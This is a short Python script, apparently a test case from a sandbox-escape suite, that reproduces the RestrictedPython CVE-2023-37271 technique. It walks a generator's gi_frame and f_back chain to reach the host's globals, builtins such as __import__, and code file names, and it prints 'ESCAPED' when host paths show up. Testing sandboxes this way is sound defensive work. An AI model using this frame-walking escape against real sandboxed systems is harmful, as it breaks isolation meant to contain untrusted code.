# RestrictedPython CVE-2023-37271: a generator's gi_frame.f_back.f_back.f_globals reached the host's globals
def leak(label, value):
    text = repr(value)
    if '/interp/' in text or 'site-packages' in text or 'test_escape_suite' in text:
        print('ESCAPED', label, text[:200])
def gen():
    yield 1
g = gen()
next(g)
f = g.gi_frame
while f is not None:
    leak('globals', sorted(f.f_globals)[:30])
    leak('builtins', f.f_builtins.get('__import__', None) if hasattr(f, 'f_builtins') else None)
    leak('code', f.f_code.co_filename)
    f = f.f_back
def gen2():
    yield [x for x in range(1)]
h = gen2()
for x in h:
    leak('running', h.gi_frame and h.gi_frame.f_back)
